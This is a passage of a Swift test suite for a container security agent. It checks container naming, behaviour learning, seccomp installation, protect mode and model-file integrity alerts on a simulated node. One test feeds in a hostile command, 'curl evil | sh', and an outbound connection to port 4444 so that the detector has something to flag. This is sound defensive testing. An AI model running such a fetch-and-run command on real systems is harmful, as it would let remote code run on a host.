import CVigilABI
import Foundation
import VigilAgent
import VigilCore
import VigilOperations
import VigilProfiles
import VigilRuntime
import VigilTestSupport
import XCTest

/// The agent's whole pipeline — naming containers, learning, monitoring, the end of learning,
/// seccomp installation, retirement — on a simulated node: a recorded kernel that applies the BPF
/// programs' rules, a directory for the cgroup tree, runc's state files. No root, no BPF.
final class AgentPipelineTests: XCTestCase {
    private var node: SimulatedNode!

    override func setUpWithError() throws {
        node = try SimulatedNode()
    }

    override func tearDown() {
        node.remove()
    }

    private func quickLearning() -> AgentConfiguration {
        var configuration = node.configuration()
        configuration.learning.minDuration = 60
        configuration.learning.quietPeriod = 10
        return configuration
    }

    private let workloadKey = "shop/deployment/web/server"

    /// An agent whose one workload (web) is stable, with its container still running.
    private func stableWeb(retireAfter: Double) throws -> (NodeAgent, SimulatedNode.Container) {
        var configuration = quickLearning()
        configuration.learning.retireAfter = retireAfter
        let agent = try node.agent(configuration)
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        node.exec(web, exe: "/usr/bin/python3")
        try node.settle(agent)
        agent.registry.stabilize(workloadKey)
        return (agent, web)
    }

    // MARK: identity

    /// A container is named from its cgroup path and runc's state off the event path; its first
    /// events, sent before it was named, wait and are learned under its workload's name.
    func testContainersAreNamedAndTheirFirstEventsAreKept() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        node.exec(web, exe: "/usr/bin/python3")
        node.write(web, path: "/tmp/cache.db")
        try agent.poll(timeoutMilliseconds: 0)
        // No state yet: the namer keeps looking, the events wait.
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 2)
        XCTAssertNil(agent.workloadStates[workloadKey])

        try node.writeState(web)
        try node.settle(agent)
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
        XCTAssertEqual(agent.workloadStates[workloadKey], .learning)
        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
        XCTAssertEqual(profile.execs.map(\.exe), ["/usr/bin/python3"])
        XCTAssertEqual(profile.fileWrites.map(\.path), ["/tmp/cache.db"])
        XCTAssertEqual(profile.learning.events, 2)
        XCTAssertEqual(agent.drops.total, 0)
    }

    /// Replicas of a deployment are one workload; a pod of an excluded namespace leaves the
    /// kernel's watch list once named, and nothing of it is learned.
    func testReplicasShareAProfileAndExcludedNamespacesAreUnwatched() throws {
        var configuration = quickLearning()
        configuration.namespaces.exclude = ["kube-system"]
        let agent = try node.agent(configuration)
        let first = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        let second = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-q8r7t")
        let dns = try node.startContainer(namespace: "kube-system", pod: "coredns-5d78c9869d-abcde", name: "coredns")
        node.exec(first, exe: "/usr/bin/python3")
        node.exec(second, exe: "/usr/bin/gunicorn")
        node.exec(dns, exe: "/coredns")
        try node.settle(agent)
        try agent.poll(timeoutMilliseconds: 0)

        XCTAssertEqual(Set(agent.workloadStates.keys), [workloadKey])
        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
        XCTAssertEqual(Set(profile.execs.map(\.exe)), ["/usr/bin/python3", "/usr/bin/gunicorn"])
        XCTAssertEqual(profile.learning.containers, 2)
        XCTAssertTrue(node.kernel.isWatched(cgroupID: first.cgroupID))
        XCTAssertFalse(node.kernel.isQuiet(cgroupID: first.cgroupID))
        XCTAssertTrue(node.kernel.isQuiet(cgroupID: dns.cgroupID), "an excluded namespace's container is still reported")
        node.exec(dns, pid: 300, exe: "/bin/sh")
        try node.settle(agent)
        XCTAssertEqual(node.kernel.pendingRecords, 0)
        XCTAssertEqual(agent.drops.total, 0)
        // Quiet, not forgotten by the kernel: its removal is reported, and the agent forgets it.
        let held = agent.rememberedCgroups
        try node.stopContainer(dns)
        try node.settle(agent)
        XCTAssertEqual(agent.rememberedCgroups, held - 2, "the excluded container's cgroup and its pod's are forgotten")
    }

    /// A container whose runtime state never appears is given up on: its waiting events are
    /// dropped and counted (`unidentified`), and an `agent.drops` line says so.
    func testEventsOfAContainerThatCannotBeNamedAreCounted() throws {
        var settings = PodDirectory.Settings()
        settings.namespaces.exclude = []
        settings.nameTimeout = 0.2
        let directory = PodDirectory(hierarchy: node.hierarchy, stateRoots: [node.stateRoot], podMetadata: nil, settings: settings)
        let printer = EventPrinter(node: "sim", sink: node.sink)
        let pipeline = try EventPipeline(kernel: node.kernel, directory: directory, consumer: printer, sink: node.sink, node: "sim")
        try node.kernel.watch(cgroupID: try node.hierarchy.id(of: node.kubepods + "/besteffort"))
        let ghost = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        for pid in 0..<3 { node.exec(ghost, pid: 100 + UInt32(pid), exe: "/bin/sh") }
        try pipeline.poll(timeoutMilliseconds: 0)
        XCTAssertEqual(pipeline.pendingEvents.events, 3)

        let deadline = Date().addingTimeInterval(10)
        while directory.unresolved > 0 && Date() < deadline {
            usleep(20_000)
            try pipeline.poll(timeoutMilliseconds: 0)
        }
        XCTAssertEqual(pipeline.pendingEvents.events, 0)
        XCTAssertEqual(pipeline.dropCounts()[.unidentified, .exec], 3)
        pipeline.reportDrops()
        let drops = try node.sink.objects(kind: "agent.drops")
        XCTAssertEqual(drops.count, 1)
        XCTAssertEqual(drops.first?[path: "drops.stage"] as? String, "unidentified")
        XCTAssertEqual(drops.first?[path: "drops.count"] as? Int, 3)
        XCTAssertTrue(try node.sink.objects(kind: "process.exec").isEmpty)
    }

    /// The queue of events waiting for names is bounded per container: past it, events are
    /// dropped and counted, never kept without limit.
    func testPendingQueueOverflowIsCounted() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        let perContainer = PendingEvents().perContainer
        for i in 0..<(perContainer + 44) { node.write(web, path: "/tmp/f\(i)") }
        try agent.poll(timeoutMilliseconds: 0)
        XCTAssertEqual(agent.pipeline.pendingEvents.events, perContainer)
        XCTAssertEqual(agent.drops[.unidentified, .file], 44)

        try node.writeState(web)
        try node.settle(agent)
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
        XCTAssertEqual(agent.registry.workload(workloadKey).profile?.learning.events, perContainer)
    }

    /// A full queue first takes the names the namer found meanwhile (it works on its own queue):
    /// a container that floods from its first millisecond loses nothing once its name is there.
    func testAFullQueueTakesTheNamersAnswerBeforeCountingALoss() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        let perContainer = PendingEvents().perContainer
        for i in 0..<perContainer { node.write(web, path: "/tmp/f\(i)") }
        try agent.poll(timeoutMilliseconds: 0)
        XCTAssertEqual(agent.pipeline.pendingEvents.events, perContainer)
        try node.writeState(web)
        usleep(500_000) // the namer retries every 10 ms: answered, not yet taken by the pipeline
        for i in perContainer..<(perContainer + 44) { node.write(web, path: "/tmp/f\(i)") }
        try agent.poll(timeoutMilliseconds: 0)
        XCTAssertEqual(agent.drops[.unidentified, .file], 0)
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
        XCTAssertEqual(agent.registry.workload(workloadKey).profile?.learning.events, perContainer + 44)
    }

    /// Events still waiting for a name when the agent stops (SIGTERM) are counted, and said so.
    func testEventsWaitingAtStopAreCounted() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        for pid in 0..<3 { node.exec(web, pid: 100 + UInt32(pid), exe: "/bin/sh") }
        try agent.stop()
        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
        XCTAssertEqual(agent.drops[.unidentified, .exec], 3)
        XCTAssertEqual(try node.sink.objects(kind: "agent.drops").first?[path: "drops.count"] as? Int, 3)
    }

    /// A container that stops before it is named (a short job) is learned all the same: its
    /// removal waits for its name, and its last syscalls come with it.
    func testAContainerRemovedWhileBeingNamedIsStillLearned() throws {
        let agent = try node.agent(quickLearning())
        let job = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
        node.exec(job, exe: "/usr/bin/python3")
        let getrandom = 318
        try node.stopContainer(job, lastSyscalls: [getrandom])
        try agent.poll(timeoutMilliseconds: 0)
        XCTAssertGreaterThanOrEqual(agent.pipeline.removalsAwaitingNames, 1, "the container's cgroup (and its pod's, unless named already)")
        try node.writeState(job)
        try node.settle(agent)
        XCTAssertEqual(agent.pipeline.removalsAwaitingNames, 0)
        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
        XCTAssertEqual(profile.execs.map(\.exe), ["/usr/bin/python3"])
        XCTAssertTrue(profile.syscalls.x86_64.contains("getrandom"))
        XCTAssertEqual(profile.learning.stoppedContainers, 1)
        XCTAssertEqual(agent.knownContainers, 0)
        XCTAssertEqual(agent.rememberedCgroups, 2, "only the watched roots are left") // kubepods, besteffort
    }

    // MARK: learning → monitoring

    /// The end-of-learning rule makes the profile stable: it is saved, its known behaviour goes
    /// into the kernel (known events are dropped there), its seccomp profile is installed; what it
    /// lacks is an anomaly labelled with the pod.
    func testStableProfileIsEnforcedInTheKernelAndReported() throws {
        let agent = try node.agent(quickLearning())
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        node.exec(web, exe: "/usr/bin/python3")
        node.connect(web, to: [10, 0, 0, 7], port: 5432)
        try node.settle(agent)
        node.kernel.recordSyscalls(syscalls(["read", "write", "openat", "close", "futex"]), cgroupID: web.cgroupID)
        try agent.tick()
        XCTAssertEqual(agent.workloadStates[workloadKey], .learning)

        try agent.tick(now: Date().addingTimeInterval(120))
        agent.waitForWrites()
        XCTAssertEqual(agent.workloadStates[workloadKey], .stable)
        let saved = try XCTUnwrap(try DirectoryProfileStore(root: node.configuration().profiles).latest(workload: workloadKey))
        XCTAssertEqual(saved.state, .stable)
        XCTAssertTrue(saved.syscalls.x86_64.contains("futex"))
        let states = try node.sink.objects(kind: "profile.state")
        XCTAssertEqual(states.last?[path: "profile.seccomp"] as? String, "installed", "\(states)")
        let installed = try XCTUnwrap(states.last?[path: "profile.seccomp_profile"] as? String)
        XCTAssertTrue(FileManager.default.fileExists(atPath: node.configuration().seccompRoot + "/" + installed))
        XCTAssertGreaterThan(node.kernel.knownEntries, 0)
        XCTAssertEqual(node.kernel.profileID(of: web.cgroupID), agent.registry.workload(workloadKey).profileID)

        node.sink.removeAll()
        node.exec(web, pid: 200, exe: "/usr/bin/python3")
        node.connect(web, pid: 200, to: [10, 0, 0, 7], port: 5432)
        node.exec(web, pid: 201, exe: "/bin/sh", parent: "/usr/bin/python3", args: ["sh", "-c", "curl evil | sh"])
        node.connect(web, pid: 201, to: [203, 0, 113, 9], port: 4444)
        try agent.poll(timeoutMilliseconds: 0)
        try agent.tick(now: Date().addingTimeInterval(121))
        XCTAssertEqual(node.kernel.suppressedCounts()[.exec], 1)
        XCTAssertEqual(node.kernel.suppressedCounts()[.network], 1)
        let anomalies = try node.sink.objects(kind: "anomaly")
        XCTAssertEqual(Set(anomalies.compactMap { $0[path: "anomaly.rule"] as? String }), ["unexpected-exec", "unexpected-egress"])
        for anomaly in anomalies {
            XCTAssertEqual(anomaly[path: "workload.pod"] as? String, "web-7d4b9c6f5-x2x9z")
            XCTAssertEqual(anomaly[path: "workload.id"] as? String, workloadKey)
            XCTAssertEqual(anomaly[path: "anomaly.profile.state"] as? String, "stable")
        }
        XCTAssertEqual(agent.registry.checkedEvents, 2, "known events reached userspace")
    }

    /// Startup and serving, through the whole agent: the downloader a replica ran before it
    /// served is allowed in every container's startup (a restart is a new container, so it starts
    /// up again) and is `startup-only-behaviour` in a container that serves; its exec is judged
    /// here, never dropped in the kernel.
    func testTheDownloaderAfterServingIsStartupOnlyBehaviour() throws {
        let agent = try node.agent(quickLearning())
        func replica(_ pod: String, serving: Bool = true) throws -> SimulatedNode.Container {
            let web = try node.startContainer(namespace: "shop", pod: pod)
            node.exec(web, pid: 100, exe: "/usr/bin/python3")
            node.exec(web, pid: 101, exe: "/usr/bin/curl", parent: "/usr/bin/python3", args: ["curl", "-o", "/models/weights.bin"])
            node.connect(web, pid: 101, to: [10, 0, 0, 9], port: 443)
            if serving {
                node.serve(web)
                node.connect(web, to: [10, 0, 0, 7], port: 5432)
            }
            return web
        }
        _ = try replica("web-7d4b9c6f5-x2x9z")
        _ = try replica("web-7d4b9c6f5-q8w7e")
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(120))
        agent.waitForWrites()
        let saved = try XCTUnwrap(try DirectoryProfileStore(root: node.configuration().profiles).latest(workload: workloadKey))
        XCTAssertEqual(saved.state, .stable)
        XCTAssertEqual(saved.startupOnly?.execs.map(\.exe), ["/usr/bin/curl", "/usr/bin/python3"])
        XCTAssertEqual(saved.startupOnly?.egress, [EgressRule(address: "10.0.0.9", port: 443, protocol: "tcp")])

        // A restarted container (a new cgroup) starts up as learned, serves: nothing to say.
        let restarted = try replica("web-7d4b9c6f5-z9y8x")
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(121))
        XCTAssertEqual(try node.sink.objects(kind: "anomaly").count, 0)

        // Serving, it runs the downloader again.
        node.exec(restarted, pid: 300, exe: "/usr/bin/curl", parent: "/usr/bin/python3", args: ["curl", "http://10.0.0.9/other"])
        node.connect(restarted, pid: 300, to: [10, 0, 0, 9], port: 443)
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(122))
        let anomalies = try node.sink.objects(kind: "anomaly")
        XCTAssertEqual(anomalies.compactMap { $0[path: "anomaly.rule"] as? String }, ["startup-only-behaviour", "startup-only-behaviour"])
        XCTAssertEqual(anomalies.first?[path: "anomaly.startup_rule.exec.exe"] as? String, "/usr/bin/curl")
        XCTAssertEqual(anomalies.first?[path: "anomaly.startup_rule.exec.parent"] as? String, "/usr/bin/python3")
        XCTAssertEqual(anomalies.last?[path: "anomaly.startup_rule.egress.address"] as? String, "10.0.0.9")
        XCTAssertEqual(anomalies.first?[path: "workload.pod"] as? String, "web-7d4b9c6f5-z9y8x")
        XCTAssertEqual(agent.registry.findings[.startupOnlyBehaviour], 2)
    }

    /// `serving.trigger: ready`: a container's startup ends when its pod's status says it is
    /// ready (read from the API server while it starts), not at its first accept; a container
    /// that never turns ready stays in its startup, and a restarted one (a new container id) is
    /// not ready because its pod's old status said the old one was.
    func testWithTheReadyTriggerServingStartsWhenThePodSaysTheContainerIsReady() throws {
        final class Pods: PodMetadataSource, @unchecked Sendable {
            private let lock = NSLock()
            private var ready: Set<String> = []
            private(set) var reads = 0
            func markReady(_ containerID: String) { lock.withLock { _ = ready.insert(containerID) } }
            func pod(namespace: String, name: String, uid: String) throws -> PodMetadata? {
                let statuses = lock.withLock { () -> String in
                    reads += 1
                    return ready.map { #"{"name":"server","ready":true,"containerID":"containerd://\#($0)"}"# }.joined(separator: ",")
                }
                let json = #"{"metadata":{"uid":"\#(uid)","namespace":"\#(namespace)","name":"\#(name)","#
                    + #""labels":{"pod-template-hash":"7d4b9c6f5"},"#
                    + #""ownerReferences":[{"kind":"ReplicaSet","name":"web-7d4b9c6f5","controller":true}]},"#
                    + #""status":{"containerStatuses":[\#(statuses)]}}"#
                return try PodMetadata(podJSON: Data(json.utf8))
            }
        }
        var configuration = quickLearning()
        configuration.kubernetes.enabled = true
        configuration.serving.trigger = .ready
        configuration.serving.readyPollInterval = 0.05
        let pods = Pods()
        let agent = try node.agent(configuration, podMetadata: pods)
        func serving(_ container: SimulatedNode.Container) -> Bool {
            agent.registry.workloads[workloadKey]?.servingContainers.contains(container.cgroupID) ?? false
        }
        func becomesReady(_ container: SimulatedNode.Container) throws {
            pods.markReady(container.containerID)
            let deadline = Date().addingTimeInterval(10)
            while !serving(container) && Date() < deadline {
                try node.settle(agent)
                usleep(20_000)
            }
            XCTAssertTrue(serving(container), "serving once its pod says it is ready")
        }
        func replica(_ pod: String) throws -> SimulatedNode.Container {
            let web = try node.startContainer(namespace: "shop", pod: pod)
            node.exec(web, pid: 100, exe: "/usr/bin/python3")
            node.connect(web, pid: 100, to: [10, 0, 0, 9], port: 443) // the model registry
            node.serve(web) // accepts a first connection (a warm-up probe): not the trigger here
            node.connect(web, pid: 100, to: [10, 0, 0, 7], port: 5432) // still warming up
            try node.settle(agent)
            return web
        }
        let first = try replica("web-7d4b9c6f5-x2x9z")
        usleep(200_000)
        try node.settle(agent)
        XCTAssertFalse(serving(first), "the kernel's accept record is not the trigger")
        XCTAssertGreaterThan(pods.reads, 1, "its pod is read again while it starts")
        try becomesReady(first)
        node.connect(first, pid: 100, to: [10, 0, 0, 8], port: 6379)
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(120))
        agent.waitForWrites()
        let saved = try XCTUnwrap(try DirectoryProfileStore(root: node.configuration().profiles).latest(workload: workloadKey))
        XCTAssertEqual(saved.state, .stable)
        XCTAssertEqual(saved.startupOnly?.egress, [EgressRule(address: "10.0.0.7", port: 5432, protocol: "tcp"),
                                                   EgressRule(address: "10.0.0.9", port: 443, protocol: "tcp")],
                       "what it did before it was ready, its accept notwithstanding")

        // A replica that is not ready yet fetches from the registry: its startup, nothing to say.
        let second = try replica("web-7d4b9c6f5-q8w7e")
        node.connect(second, pid: 100, to: [10, 0, 0, 9], port: 443)
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(121))
        XCTAssertEqual(try node.sink.objects(kind: "anomaly").count, 0)
        // Ready, it does so again: startup-only behaviour.
        try becomesReady(second)
        node.connect(second, pid: 100, to: [10, 0, 0, 9], port: 443)
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(122))
        let anomalies = try node.sink.objects(kind: "anomaly")
        XCTAssertEqual(anomalies.compactMap { $0[path: "anomaly.rule"] as? String }, ["startup-only-behaviour"])
        XCTAssertEqual(anomalies.first?[path: "workload.pod"] as? String, "web-7d4b9c6f5-q8w7e")
    }

    /// Protect mode through the agent: the configuration names the workload; once its profile
    /// is stable, each of its containers is protected as soon as it is named (before any event of
    /// it), the guard sits at the watched root, an exec or destination outside the profile is
    /// killed or refused with the anomaly saying so, and a relearn takes protection off again.
    /// A pod of another workload asks with its annotation; one that does not ask stays monitored,
    /// its anomalies saying what protect mode would have done.
    func testProtectModeFollowsTheConfigurationAndThePodsAnnotation() throws {
        final class Pods: PodMetadataSource {
            func pod(namespace: String, name: String, uid: String) throws -> PodMetadata? {
                let annotations = name.hasPrefix("api-") ? #","annotations":{"vigil.dev/mode":"protect"}"# : ""
                let owner = name.hasPrefix("api-") ? "api-5f6d7c8b9" : name.hasPrefix("web-") ? "web-7d4b9c6f5" : "jobs-6c5b4a3d2"
                let hash = String(owner.split(separator: "-").last!)
                let json = #"{"metadata":{"uid":"\#(uid)","namespace":"\#(namespace)","name":"\#(name)","labels":{"pod-template-hash":"\#(hash)"},"#
                    + #""ownerReferences":[{"kind":"ReplicaSet","name":"\#(owner)","controller":true}]\#(annotations)}}"#
                return try PodMetadata(podJSON: Data(json.utf8))
            }
        }
        var configuration = quickLearning()
        configuration.kubernetes.enabled = true
        configuration.protect = [.init(workload: "shop/deployment/web/*")]
        let agent = try node.agent(configuration, podMetadata: Pods())
        XCTAssertEqual(node.kernel.guardedRoots.count, 1, "the guard sits at the watched root")
        func replica(_ pod: String) throws -> SimulatedNode.Container {
            let container = try node.startContainer(namespace: "shop", pod: pod)
            node.exec(container, pid: 100, exe: "/usr/bin/python3")
            node.connect(container, pid: 100, to: [10, 0, 0, 7], port: 5432)
            return container
        }
        let first = try ["web-7d4b9c6f5-x2x9z", "api-5f6d7c8b9-a1a1a", "jobs-6c5b4a3d2-b2b2b"].map(replica)
        try node.settle(agent)
        XCTAssertTrue(node.kernel.protections.isEmpty, "nothing is protected while learning")
        try agent.tick(now: Date().addingTimeInterval(120))
        XCTAssertEqual(Set(agent.workloadStates.values), [.stable])
        XCTAssertEqual(Set(node.kernel.protections.keys), [first[0].cgroupID, first[1].cgroupID], "stable: its running containers too")

        // New containers: protected from their naming on, before any event of theirs.
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-q8w7e")
        let api = try node.startContainer(namespace: "shop", pod: "api-5f6d7c8b9-c3c3c")
        let jobs = try node.startContainer(namespace: "shop", pod: "jobs-6c5b4a3d2-d4d4d")
        try node.settle(agent)
        XCTAssertEqual(node.kernel.protections[web.cgroupID], .init(egress: true, exec: true, modelWrites: false), "the configuration names it")
        XCTAssertEqual(node.kernel.protections[api.cgroupID], .init(egress: true, exec: true, modelWrites: false), "its pod asks")
        XCTAssertNil(node.kernel.protections[jobs.cgroupID], "neither")
        XCTAssertEqual(node.kernel.enforcements.count, 2, "the rules of the two protected workloads are in the kernel")

        for container in [web, jobs] {
            node.exec(container, pid: 100, exe: "/usr/bin/python3")
            node.exec(container, pid: 200, exe: "/bin/sh", parent: "/usr/bin/python3")
            node.connect(container, pid: 100, to: [10, 0, 0, 7], port: 5432)
            node.connect(container, pid: 100, to: [203, 0, 113, 9], port: 4444)
        }
        try node.settle(agent)
        try agent.tick(now: Date().addingTimeInterval(121))
        let anomalies = try node.sink.objects(kind: "anomaly")
        func outcome(_ pod: String, _ rule: String) -> (action: String?, would: String?) {
            let line = anomalies.first { $0[path: "workload.pod"] as? String == pod && $0[path: "anomaly.rule"] as? String == rule }
            return (line?[path: "anomaly.action"] as? String, line?[path: "anomaly.would_action"] as? String)
        }
        XCTAssertEqual(anomalies.count, 4, "\(anomalies)")
        XCTAssertTrue(outcome("web-7d4b9c6f5-q8w7e", "unexpected-exec") == ("killed", nil))
        XCTAssertTrue(outcome("web-7d4b9c6f5-q8w7e", "unexpected-egress") == ("denied", nil))
        XCTAssertTrue(outcome("jobs-6c5b4a3d2-d4d4d", "unexpected-exec") == (nil, "kill"))
        XCTAssertTrue(outcome("jobs-6c5b4a3d2-d4d4d", "unexpected-egress") == (nil, "deny"))
        XCTAssertEqual(agent.registry.enforced[.init(workload: workloadKey, rule: .unexpectedExec, action: .killed)], 1)
        XCTAssertEqual(agent.registry.enforced[.init(workload: workloadKey, rule: .unexpectedEgress, action: .denied)], 1)
        let metrics = AgentMetrics()
        metrics.update(agent: agent)
        var bytes: [UInt8] = []
        metrics.registry.emit(into: &bytes)
        let exposition = String(decoding: bytes, as: UTF8.self)
        XCTAssertTrue(exposition.contains(#"vigil_protect_actions_total{workload="shop/deployment/web/server",rule="unexpected-exec",action="killed"} 1"#), exposition)
        XCTAssertTrue(exposition.contains("vigil_protected_containers 4"), exposition)

        // A relearn (a newer version started in the cluster): back to learning, nothing enforced.
        var newer = try XCTUnwrap(agent.registry.workloads[workloadKey]?.profile)
        newer.version += 1
        newer.state = .learning
        agent.registry.relearn(from: newer)
        XCTAssertNil(node.kernel.protections[web.cgroupID])
        XCTAssertNil(node.kernel.enforcements[agent.registry.workloads[workloadKey]!.profileID])
        XCTAssertEqual(node.kernel.protections[api.cgroupID], .init(egress: true, exec: true, modelWrites: false), "another workload's stays")
    }

    /// Model files: the kernel is told the container's model directory (as its process sees it:
    /// here this test's own process, whose root is the host's), each open is hashed off the loop,
    /// `model.load` says the content once, the profile learns it, and once stable a content it
    /// never saw is `model-changed` with the known one.
    func testModelsAreKnownByContentAndASwapIsReported() throws {
        let models = node.directory + "/models"
        try FileManager.default.createDirectory(atPath: models + "/llm", withIntermediateDirectories: true)
        let weights = models + "/llm/weights.bin"
        try Data("weights v1".utf8).write(to: URL(fileURLWithPath: weights))
        func identity(_ path: String) throws -> FileIdentity {
            var status = stat()
            guard stat(path, &status) == 0 else { throw TestSupportError(description: "stat \(path)") }
            return FileIdentity(statDevice: UInt64(status.st_dev), inode: UInt64(status.st_ino))
        }
        var configuration = quickLearning()
        configuration.modelPaths = [.init(workload: "shop/*/web/*", paths: [models + "/**"])]
        // Declared too: v1 is what the team shipped.
        configuration.modelDigests = [.init(workload: "shop/*/web/*", digests: ["sha256:" + Data("weights v1".utf8).sha256Hex])]
        let agent = try node.agent(configuration)
        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
        let me = UInt32(getpid())
        node.exec(web, pid: me, exe: "/usr/bin/python3")
        try node.settle(agent)
        let directory = try identity(models)
        XCTAssertEqual(node.kernel.modelDirectories[web.cgroupID], [directory, FileIdentity(device: directory.device, inode: 0)],
                       "the fixed directory of /…/models/**, and its filesystem")

        for _ in 0..<3 { node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights, identity: try identity(weights)) }
        try node.settle(agent)
        agent.registry.waitForModelHashes()
        try agent.tick()
        let loads = try node.sink.objects(kind: "model.load")
        XCTAssertEqual(loads.count, 1, "\(loads)")
        XCTAssertEqual(loads.first?[path: "model.sha256"] as? String, "sha256:" + Data("weights v1".utf8).sha256Hex)
        XCTAssertEqual(loads.first?[path: "model.path"] as? String, weights)
        XCTAssertEqual(loads.first?[path: "event.kind"] as? String, "file.read")
        XCTAssertEqual(agent.registry.modelHashing?.hashed, 1)
        XCTAssertEqual(agent.registry.modelHashing?.cached, 2, "reopened, not read again")

        try agent.tick(now: Date().addingTimeInterval(120))
        agent.waitForWrites()
        XCTAssertEqual(agent.workloadStates[workloadKey], .stable)
        let saved = try XCTUnwrap(try DirectoryProfileStore(root: configuration.profiles).latest(workload: workloadKey))
        XCTAssertEqual(saved.models, [ModelRule(path: weights, sha256: "sha256:" + Data("weights v1".utf8).sha256Hex)])
        XCTAssertEqual(saved.modelReaders, ["/usr/bin/python3"])

        // The server reads its weights again: nothing. A shell's cat reads them: model-artifact-read.
        node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights, identity: try identity(weights))
        node.exec(web, pid: 300, exe: "/bin/cat", parent: "/usr/bin/python3", args: ["cat", weights])
        node.readModel(web, pid: 300, exe: "/bin/cat", path: weights, identity: try identity(weights))
        try node.settle(agent)
        let reads = try node.sink.objects(kind: "anomaly").filter { $0[path: "anomaly.rule"] as? String == "model-artifact-read" }
        XCTAssertEqual(reads.count, 1, "\(reads)")
        XCTAssertEqual(reads.first?[path: "anomaly.severity"] as? String, "high")
        XCTAssertEqual(reads.first?[path: "event.process.exe"] as? String, "/bin/cat")
        XCTAssertEqual(reads.first?[path: "event.file.path"] as? String, weights)

        // Hashed and found in the profile: the kernel now drops the server's opens of this
        // version of the file, not cat's (an unknown reader), nor those of any other version.
        agent.registry.waitForModelHashes()
        try agent.tick(now: Date().addingTimeInterval(120.5))
        let suppressed = node.kernel.suppressedCounts()[.file] ?? 0
        node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights, identity: try identity(weights))
        node.readModel(web, pid: 300, exe: "/bin/cat", path: weights, identity: try identity(weights))
        try node.settle(agent)
        XCTAssertEqual(node.kernel.suppressedCounts()[.file], suppressed + 1)
        // cat's open is hashed too, on the hashing thread: done before the swap below, or it
        // would find the new file and fail as another inode (it did once under CI's load).
        agent.registry.waitForModelHashes()

        // Swapped on the volume (a new file renamed over the old), then loaded again.
        try Data("weights v2".utf8).write(to: URL(fileURLWithPath: weights), options: .atomic)
        node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights, identity: try identity(weights))
        // An open whose file was replaced between the open and the read is not hashed as it.
        node.readModel(web, pid: me, exe: "/usr/bin/python3", path: weights, identity: FileIdentity(device: 1, inode: 1))
        try node.settle(agent)
        agent.registry.waitForModelHashes()
        try agent.tick(now: Date().addingTimeInterval(121))
        let changed = try node.sink.objects(kind: "anomaly").filter { $0[path: "anomaly.rule"] as? String == "model-changed" }
        XCTAssertEqual(changed.count, 1, "\(changed)")
        XCTAssertEqual(changed.first?[path: "event.model.sha256"] as? String, "sha256:" + Data("weights v2".utf8).sha256Hex)
        XCTAssertEqual(changed.first?[path: "event.model.previous"] as? [String], ["sha256:" + Data("weights v1".utf8).sha256Hex])
        XCTAssertEqual(changed.first?[path: "anomaly.severity"] as? String, "critical")
        XCTAssertEqual(agent.registry.modelHashing?.failures, 1, "the open of another inode")
        XCTAssertEqual(agent.registry.findings[.modelChanged], 1)
        let unverified = try node.sink.objects(kind: "anomaly").filter { $0[path: "anomaly.rule"] as? String == "model-unverified" }
        XCTAssertEqual(unverified.count, 1, "v2 was not declared: \(unverified)")
        XCTAssertEqual(unverified.first?[path: "event.model.declared"] as? [String], ["sha256:" + Data("weights v1".utf8).sha256Hex])
        XCTAssertEqual(unverified.first?[path: "anomaly.severity"] as? String, "critical")
    }

    /// The filesystems a model file can be on: the model directory's own, and what is mounted at
    /// or below it (a volume, a bind-mounted adapter), read from the container's mountinfo.
    func testModelFilesystemsIncludeMountsBelowTheModelDirectory() {
        let mountinfo = """
        22 1 0:21 / / rw,relatime - overlay overlay rw,lowerdir=/l,upperdir=/u
        23 22 0:22 / /proc rw - proc proc rw
        24 22 8:1 /volumes/weights /models/llm rw - ext4 /dev/sda1 rw
        25 22 8:17 /adapters /models/with\\040space ro - ext4 /dev/sdb1 rw
        26 22 253:3 / /modelsnot rw - xfs /dev/dm-3 rw
        """
        XCTAssertEqual(ModelFiles.devicesMounted(below: ["/models"], mountinfo: mountinfo), [8 << 20 | 1, 8 << 20 | 17])
        XCTAssertEqual(ModelFiles.devicesMounted(below: ["/models/llm"], mountinfo: mountinfo), [8 << 20 | 1])
        XCTAssertEqual(ModelFiles.devicesMounted(below: ["/models/with space"], mountinfo: mountinfo), [8 << 20 | 17], "unescaped")
    }

    /// A pod declares its model's content (annotation `vigil.dev/model-digests`, read with the
    /// pod from the API server): a load of any other content is model-unverified, while learning.
    func testAPodDeclaresItsModel() throws {
        final class Pods: PodMetadataSource {
            let declared: [String]
            init(declared: [String]) { self.declared = declared }
            func pod(namespace: String, name: String, uid: String) throws -> PodMetadata? {
